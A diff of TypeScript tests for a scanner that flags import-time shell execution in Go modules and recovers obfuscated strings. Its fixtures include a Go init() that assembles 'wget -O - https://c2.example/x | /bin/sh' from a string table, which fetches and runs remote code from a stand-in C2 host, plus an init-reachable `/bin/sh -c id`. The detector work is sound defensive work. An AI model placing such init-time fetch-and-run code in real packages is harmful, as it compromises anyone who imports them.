@@ -24,40 +24,40 @@ function makeModule(files: Record<string, string>): string {
   return dir;
 }
 
+/** Scans a module made of `files` (removed afterwards). */
+async function scanFiles(files: Record<string, string>): ReturnType<typeof scanModule> {
+  const dir = makeModule(files);
+  try {
+    return await scanModule(dir, { rules, workers: 0 });
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
 test('an init() in a file no rule admits still makes a function in another file import-time', async () => {
-  const dir = makeModule({
+  const result = await scanFiles({
     'go.mod': 'module example.test/m\n',
     // no rule word here: this file is only parsed for its values and init
     'boot.go': 'package m\n\nfunc init() {\n\tsetup()\n}\n\nfunc setup() {\n\tstart()\n}\n',
     'run.go': 'package m\n\nimport "os/exec"\n\nfunc start() {\n\texec.Command("/bin/sh", "-c", "id").Start()\n}\n\nfunc Other() {\n\texec.Command("git", "status").Run()\n}\n',
   });
-  try {
-    const result = await scanModule(dir, { rules, workers: 0 });
-    const shell = result.findings.filter((f) => f.file === 'run.go' && f.line === 6);
-    assert.ok(shell.length > 0, 'the shell call is found');
-    assert.ok(shell.every((f) => f.context === 'reachable-from-init'), shell.map((f) => `${f.ruleId}:${f.context}`).join(' '));
-    assert.ok(shell.some((f) => f.ruleId === 'import-time-exec-shell' || f.ruleId === 'import-time-exec'), shell.map((f) => f.ruleId).join(' '));
-    const other = result.findings.filter((f) => f.file === 'run.go' && f.line === 10);
-    assert.ok(other.every((f) => f.context === 'function'));
-  } finally {
-    rmSync(dir, { recursive: true, force: true });
-  }
+  const shell = result.findings.filter((f) => f.file === 'run.go' && f.line === 6);
+  assert.ok(shell.length > 0, 'the shell call is found');
+  assert.ok(shell.every((f) => f.context === 'reachable-from-init'), shell.map((f) => `${f.ruleId}:${f.context}`).join(' '));
+  assert.ok(shell.some((f) => f.ruleId === 'import-time-exec-shell' || f.ruleId === 'import-time-exec'), shell.map((f) => f.ruleId).join(' '));
+  const other = result.findings.filter((f) => f.file === 'run.go' && f.line === 10);
+  assert.ok(other.every((f) => f.context === 'function'));
 });
 
 test('a string table in a file no rule admits is still read by recovery in another file', async () => {
-  const dir = makeModule({
+  const result = await scanFiles({
     'go.mod': 'module example.test/m\n',
     'table.go': 'package m\n\nvar tbl = []string{"wget ", "-O - ", "https://c2.example/x", " | /bin/sh"}\n\nfunc Unrelated() int { return 1 }\n',
     'run.go': 'package m\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("/bin/sh", "-c", tbl[0]+tbl[1]+tbl[2]+tbl[3]).Start()\n}\n',
   });
-  try {
-    const result = await scanModule(dir, { rules, workers: 0 });
-    const hits = result.findings.flatMap((f) => f.recoveredStrings);
-    assert.ok(hits.some((s) => s.includes('wget -O - https://c2.example/x | /bin/sh')), hits.join(' | '));
-    assert.ok(result.iocs.domains.includes('c2.example'));
-  } finally {
-    rmSync(dir, { recursive: true, force: true });
-  }
+  const hits = result.findings.flatMap((f) => f.recoveredStrings);
+  assert.ok(hits.some((s) => s.includes('wget -O - https://c2.example/x | /bin/sh')), hits.join(' | '));
+  assert.ok(result.iocs.domains.includes('c2.example'));
 });
 
 test('fileLayout splits top-level declarations with their comments, not keywords inside bodies or literals', () => {
@@ -153,57 +153,40 @@ test('the static scan cache gives the same result and follows file changes', asy
 });
 
 test('a function registered into a field in init is not import-time code; one called through a local is', async () => {
-  const registered = makeModule({
+  const a = await scanFiles({
     'go.mod': 'module example.test/m\n',
     'cmd.go':
       'package m\n\nimport "os/exec"\n\ntype command struct{ Run func() }\n\nvar cmdBuild = &command{}\n\nfunc init() {\n\tcmdBuild.Run = runBuild\n}\n\nfunc runBuild() {\n\texec.Command("/bin/sh", "-c", "make").Run()\n}\n',
   });
-  const called = makeModule({
+  const shellA = a.findings.filter((f) => f.ruleId === 'exec-shell-dash-c');
+  assert.equal(shellA.length, 1);
+  assert.equal(shellA[0]!.context, 'function');
+  assert.ok(!a.findings.some((f) => f.ruleId.startsWith('import-time-')));
+  const b = await scanFiles({
     'go.mod': 'module example.test/m\n',
     'cmd.go': 'package m\n\nimport "os/exec"\n\nfunc init() {\n\tf := runBuild\n\tf()\n}\n\nfunc runBuild() {\n\texec.Command("/bin/sh", "-c", "make").Run()\n}\n',
   });
-  try {
-    const a = await scanModule(registered, { rules, workers: 0 });
-    const shellA = a.findings.filter((f) => f.ruleId === 'exec-shell-dash-c');
-    assert.equal(shellA.length, 1);
-    assert.equal(shellA[0]!.context, 'function');
-    assert.ok(!a.findings.some((f) => f.ruleId.startsWith('import-time-')));
-    const b = await scanModule(called, { rules, workers: 0 });
-    assert.equal(b.findings.find((f) => f.ruleId === 'exec-shell-dash-c')?.context, 'reachable-from-init');
-  } finally {
-    rmSync(registered, { recursive: true, force: true });
-    rmSync(called, { recursive: true, force: true });
-  }
+  assert.equal(b.findings.find((f) => f.ruleId === 'exec-shell-dash-c')?.context, 'reachable-from-init');
 });
 
 test('code in a closure a function returns is not run by calling the function at init', async () => {
-  const dir = makeModule({
+  const r = await scanFiles({
     'go.mod': 'module example.test/m\n',
     'viz.go':
       'package m\n\nimport "os/exec"\n\nvar render = invokeDot("svg")\n\nfunc invokeDot(format string) func() error {\n\treturn func() error {\n\t\treturn exec.Command("/bin/sh", "-c", "dot -T"+format).Run()\n\t}\n}\n',
   });
-  try {
-    const r = await scanModule(dir, { rules, workers: 0 });
-    const shell = r.findings.filter((f) => f.ruleId === 'exec-shell-dash-c');
-    assert.equal(shell.length, 1);
-    assert.equal(shell[0]!.context, 'function');
-  } finally {
-    rmSync(dir, { recursive: true, force: true });
-  }
+  const shell = r.findings.filter((f) => f.ruleId === 'exec-shell-dash-c');
+  assert.equal(shell.length, 1);
+  assert.equal(shell[0]!.context, 'function');
 });
 
 test('a function called only from a returned closure is not reached by calling the outer function at init', async () => {
-  const dir = makeModule({
+  const r = await scanFiles({
     'go.mod': 'module example.test/m\n',
     'viz.go':
       'package m\n\nimport "os/exec"\n\nvar open = visualizer("svg")\n\nfunc visualizer(format string) func() error {\n\treturn func() error {\n\t\treturn launch(format)\n\t}\n}\n\nfunc launch(f string) error {\n\treturn exec.Command("/bin/sh", "-c", "eog "+f).Start()\n}\n',
   });
-  try {
-    const r = await scanModule(dir, { rules, workers: 0 });
-    assert.equal(r.findings.find((f) => f.ruleId === 'exec-shell-dash-c')?.context, 'function');
-  } finally {
-    rmSync(dir, { recursive: true, force: true });
-  }
+  assert.equal(r.findings.find((f) => f.ruleId === 'exec-shell-dash-c')?.context, 'function');
 });
 
 /** Ordinary functions that make a file big enough for the declaration-level parse plan. */
